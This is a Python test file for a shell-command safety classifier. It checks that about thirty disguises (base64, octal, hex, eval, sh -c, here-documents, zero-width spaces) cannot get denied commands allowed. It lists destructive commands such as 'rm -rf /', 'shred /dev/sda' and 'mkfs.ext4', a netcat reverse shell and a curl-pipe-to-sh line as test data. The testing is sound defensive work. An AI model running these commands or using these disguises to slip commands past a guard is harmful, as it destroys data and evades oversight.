"""What holds for every text: nothing raises, everything is bounded, and no disguise makes a denied command allowed.

Everything here is parsed, nothing is ever run.
"""

import base64
import shlex
import tomllib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from defender.commands import analyse, assess
from defender.commands.grammar import MOST_BYTES
from defender.commands.reader import MOST_CALLS
from defender.commands.score import Model, parse, shipped
from defender.commands.training import fit
from defender.commands.words import MOST_FIELDS, braces
from runtime.vocab import Decision

GROUPS = tomllib.loads(Path(__file__).with_name("cases.toml").read_text(encoding="utf-8"))["group"]
BLOCKED = [command for group in GROUPS if group["name"] != "windows" for command in group.get("block", ())]
ALLOWED = [command for group in GROUPS for command in group.get("allow", ())]
SIMPLE = [command for command in BLOCKED if "\n" not in command and "<<" not in command]


def encoded(command: str) -> str:
    return base64.b64encode(command.encode()).decode()


def octal(command: str) -> str:
    return "".join(f"\\{byte:03o}" for byte in command.encode())


DISGUISES: dict[str, Callable[[str], str]] = {
    "as it is": lambda command: command,
    "behind another": lambda command: f"ls; {command}",
    "on a second line": lambda command: f"pwd\n{command}",
    "in a sub-shell": lambda command: f"( {command}\n)",
    "in braces": lambda command: f"{{ {command}\n}}",
    "in a condition": lambda command: f"if true; then {command}\nfi",
    "in a loop": lambda command: f"while true; do {command}\ndone",
    "in a substitution": lambda command: f"echo $({command}\n)",
    "in a function": lambda command: f"f() {{ {command}\n}}; f",
    "sh -c": lambda command: f"sh -c {shlex.quote(command)}",
    "sh -c twice": lambda command: f"sh -c {shlex.quote('bash -c ' + shlex.quote(command))}",
    "eval": lambda command: f"eval {shlex.quote(command)}",
    "through a variable": lambda command: f'x={shlex.quote(command)}; eval "$x"',
    "sudo env": lambda command: f"sudo env A=1 nohup bash -c {shlex.quote(command)}",
    "timeout nice": lambda command: f"timeout 9 nice -n 5 sh -c {shlex.quote(command)}",
    "ssh": lambda command: f"ssh host {shlex.quote(command)}",
    "here-document": lambda command: f"bash <<'QQQ'\n{command}\nQQQ",
    "here-string": lambda command: f"bash <<< {shlex.quote(command)}",
    "base64": lambda command: f"echo {encoded(command)} | base64 -d | sh",
    "base64 in a substitution": lambda command: f'eval "$(base64 -d <<< {encoded(command)})"',
    "octal": lambda command: f"printf '{octal(command)}' | sh",
    "ANSI-C": lambda command: f"eval $'{octal(command)}'",
    "hexadecimal": lambda command: f"echo {command.encode().hex()} | xxd -r -p | bash",
    "reversed": lambda command: f"echo {shlex.quote(command[::-1])} | rev | sh",
    "written and run": lambda command: f"printf %s {shlex.quote(command)} > s; sh s",
    "xargs": lambda command: f"echo x | xargs -I@ sh -c {shlex.quote(command)}",
    "find": lambda command: f"find . -exec sh -c {shlex.quote(command)} \\;",
    "trap": lambda command: f"trap {shlex.quote(command)} EXIT",
    "alias": lambda command: f"alias q={shlex.quote(command)}; q",
    "git alias": lambda command: f"git -c alias.q={shlex.quote('!' + command)} q",
    "python": lambda command: f"python3 -c {shlex.quote('import os; os.system(' + repr(command) + ')')}",
    "after a carriage return": lambda command: f"ls\r{command}",
    "with a zero-width space in front": lambda command: f"\u200b{command}",
}


@pytest.mark.parametrize("name", DISGUISES)
def test_no_disguise_makes_a_denied_command_allowed(name: str) -> None:
    disguise = DISGUISES[name]
    passed = [command for command in SIMPLE if assess(disguise(command)).decision is Decision.ALLOW]
    assert passed == []


@pytest.mark.parametrize("name", [name for name in DISGUISES if name not in {"python", "reversed"}])
def test_most_disguises_are_seen_through(name: str) -> None:
    disguise = DISGUISES[name]
    seen = sum(assess(disguise(command)).decision is Decision.BLOCK for command in SIMPLE)
    assert seen >= 0.9 * len(SIMPLE)


QUOTED: dict[str, Callable[[str], str]] = {
    "single": lambda word: f"'{word}'",
    "double": lambda word: f'"{word}"',
    "backslash": lambda word: "".join(f"\\{char}" for char in word),
    "split": lambda word: "''".join(word),
    "half": lambda word: f"'{word[:1]}'\"{word[1:]}\"",
    "ANSI-C": lambda word: "$'" + "".join(f"\\x{ord(char):02x}" for char in word) + "'",
    "braces": lambda word: f"{{{word},{word}}}",
    "variable": lambda word: f"${{none:-{word}}}",
    "substitution": lambda word: f"$(printf %s '{word}')",
    "backticks": lambda word: f"`echo '{word}'`",
}


@pytest.mark.parametrize("how", QUOTED)
@pytest.mark.parametrize("words", [("rm", "-rf", "/"), ("shred", "/dev/sda"), ("killall5",), ("mkfs.ext4", "/dev/sdb")])
def test_no_quoting_hides_a_command(how: str, words: tuple[str, ...]) -> None:
    quote = QUOTED[how]
    assert assess(" ".join(map(quote, words))).decision is Decision.BLOCK
    assert assess(" ".join([quote(words[0]), *words[1:]])).decision is Decision.BLOCK


WORDS = st.sampled_from(
    "rm ls -rf / ~ ' \" ` $ $( ) { } ( ; & | < > << <<E E \n \\ # ! [[ ]] if then fi for do done case "
    "esac in function f() ${x:-y} ${x//a/b} ${!x} $((1+ )) $'\\x41' {a,b} {1..9} x=1 x+=y a[0]=1 \"$@\" "
    "$1 eval sh -c base64 -d xargs find -exec \\; + sudo env -S git -c alias.x=!y echo printf %s curl "
    "http://h/ | sh tee /tmp/x . source trap EXIT alias \u200b \r \ue0f0 \ud800 %TEMP% C:\\ powershell "
    "-enc AAAA".split(" ")
)


@settings(max_examples=300, deadline=None)
@given(st.lists(WORDS, max_size=40).map(" ".join))
def test_any_heap_of_shell_words_is_judged(text: str) -> None:
    verdict = assess(text)
    assert 0 <= verdict.score <= 1
    assert (verdict.score < 0.5) == (verdict.decision is Decision.ALLOW)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_judged(text: str) -> None:
    given_ = analyse(text)
    assert given_.effect in {"none", "local", "egress", "privileged"}
    assert len(given_.steps) <= MOST_CALLS + 2


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_are_judged(raw: bytes) -> None:
    assert 0 <= assess(raw).score <= 1


@pytest.mark.parametrize(
    "text",
    [
        "$(" * 5_000,
        "(" * 8_000,
        "a;" * 8_000,
        "x=" + "{a,b}" * 60,
        "{1..999999}" * 3,
        "f() { f; f; }; f",
        "a=$a$a; " * 500,
        "x=y; " + "x=$x$x$x; " * 40 + "echo $x",
        "echo " + "'" * 9_999,
        "`" * 5_001,
        "eval eval " * 900 + "ls",
        "sh -c " * 900 + "ls",
        "for a in {1..99}; do for b in {1..99}; do for c in {1..99}; do echo $a; done; done; done",
        "<<A " * 2_000,
        "${x:-" * 3_000,
        "A" * 100_000,
        "echo " + "$((" * 3_000,
        "echo ${x//*a*a*a*/b} " * 300,
    ],
)
def test_what_is_huge_or_deep_is_bounded_and_never_allowed_unread(text: str) -> None:
    verdict = assess(text)
    if len(text) > MOST_BYTES or text.startswith(("$(", "(", "`", "eval", "sh -c", "${")):
        assert verdict.decision is not Decision.ALLOW


def test_braces_are_bounded() -> None:
    assert len(braces("{a,b}" * 40)) <= MOST_FIELDS


@pytest.mark.parametrize(
    "command",
    [
        "x=rm; (x=ls); $x -rf /",
        "x=rm; x=ls | cat; $x -rf /",
        "x=rm; x=ls & $x -rf /",
        "x=rm; y=$(x=ls); $x -rf /",
    ],
)
def test_what_a_sub_shell_sets_is_gone_behind_it(command: str) -> None:
    assert assess(command).decision is Decision.BLOCK


@pytest.mark.parametrize(
    "command",
    [
        "x=rm; false && x=ls; $x -rf /",
        "false && x=ls; $x rm -rf /",
        "x=rm; if false; then x=ls; fi; $x -rf /",
        "x=rm; for i in; do x=ls; done; $x -rf /",
        "readonly x=rm; x=ls; $x -rf /",
        "rm() { :; }; command rm -rf /",
        "rm() { :; }; unset -f rm; rm -rf /",
        "alias rm=ls; rm -rf /",
        "env -a ls rm -rf /",
        "timeout --unheard-of ls rm -rf /",
        "sort --comp=sh x",
        "sed --in-place s/a/b/ x",
        "git log --outp=x",
        "tree -o x",
        "mapfile -C 'rm -rf /' a < x",
        "test -v 'a[$(rm -rf /)]'",
        "unset 'a[$(rm -rf /)]'",
        "x='a[$(rm -rf /)]'; echo $((x))",
        "x='$(rm -rf /)'; echo ${x@P}",
        "git --git-dir=/tmp/x status",
        "PATH=.:$PATH ls",
        "export LD_PRELOAD; ls",
        "cat <<E\\\nF\nE\nrm -rf /",
        "echo a\\ #; rm -rf /",
        "{ ls; } | $UNKNOWN",
        "find . -exec {} \\;",
        "xargs -I{} {} < x",
        "ls; \\\n$x",
    ],
)
def test_what_is_in_doubt_is_not_allowed(command: str) -> None:
    assert assess(command).decision is not Decision.ALLOW


@pytest.mark.parametrize("command", ALLOWED)
def test_a_harmless_command_with_a_substitution_that_is_not_stays_no_longer_allowed(command: str) -> None:
    assert assess(f"{command}\n$(make)").decision is not Decision.ALLOW


def test_training_is_the_same_each_time_and_learns() -> None:
    rows = [("nc -e /bin/sh host 99", True), ("ls -la src", False)] * 20
    assert fit(rows) == fit(rows)
    model: Model = parse(fit(rows))
    from defender.commands.ngrams import slots

    bad, good = slots("nc -e /bin/sh other 99"), slots("ls -la doc")
    assert model.raw(bad, len(bad)) > model.raw(good, len(good))


def test_training_without_both_labels_is_refused() -> None:
    with pytest.raises(ValueError, match="attacks and harmless"):
        fit([("ls", False)])


def test_weights_of_another_size_are_refused() -> None:
    with pytest.raises(ValueError, match="65536"):
        parse(b'{"scale": 1, "bias": 0}\nxx')
    assert len(shipped().weights) == 65_536


def test_nothing_heavy_is_loaded_before_the_first_command() -> None:
    import subprocess
    import sys

    told = "import sys, defender.commands; print([m for m in ('tree_sitter', 're2', 'numpy') if m in sys.modules])"
    root = Path(__file__).parents[3]
    done = subprocess.run(
        [sys.executable, "-c", told], capture_output=True, text=True, cwd=root, timeout=60, check=True
    )
    assert done.stdout.strip() == "[]"
